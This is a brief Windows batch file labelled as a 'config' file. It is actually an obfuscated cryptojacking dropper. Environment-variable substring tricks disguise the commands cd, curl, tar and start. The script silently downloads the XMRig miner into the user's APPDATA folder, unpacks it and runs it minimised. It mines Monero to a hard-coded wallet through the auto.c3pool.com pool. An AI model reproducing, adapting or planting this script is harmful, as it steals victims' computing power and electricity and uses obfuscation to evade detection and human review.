REM config 1992 v3
@echo off
%public:~-1,1%%COMSPEC:~22,1% /d %APPDATA%
%PUBLIC:~14,1%%PUBLIC:~-5,1%%PROGRAMDATA:~7,1%l -sLo x.zip https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-msvc-win64.zip
%COMSPEC:~-13,1%%programdata:~11,1%%PROGRAMDATA:~7,1% -xf x.zip
%public:~-11,1%%programdata:~-2,1%%ProgramData:~13,1%r%ProgramData:~-2,1% /min xmrig-6.21.0\xmrig.exe -o stratum+tcp://auto.c3pool.com:13333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x --donate-level=1
